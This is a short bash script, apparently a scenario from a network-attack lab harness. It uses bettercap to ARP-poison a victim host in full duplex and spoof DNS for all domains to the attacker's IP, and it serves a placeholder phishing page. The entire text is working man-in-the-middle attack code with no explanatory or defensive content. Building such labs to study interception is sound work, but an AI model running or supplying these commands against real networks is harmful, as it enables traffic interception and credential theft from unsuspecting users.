# shellcheck shell=bash
# bettercap: ARP poisoning, and every name leads to the attacker.
start() { att_forward; mkdir -p "$S/run/phish"; echo "hello" >"$S/run/phish/index.html"; att_http "$S/run/phish"
  bcap bettercap "set arp.spoof.targets $VICTIM_IP" "set arp.spoof.fullduplex true" \
    "set dns.spoof.domains *" "set dns.spoof.address $ATT_IP" "set dns.spoof.all true" "arp.spoof on" "dns.spoof on"; }
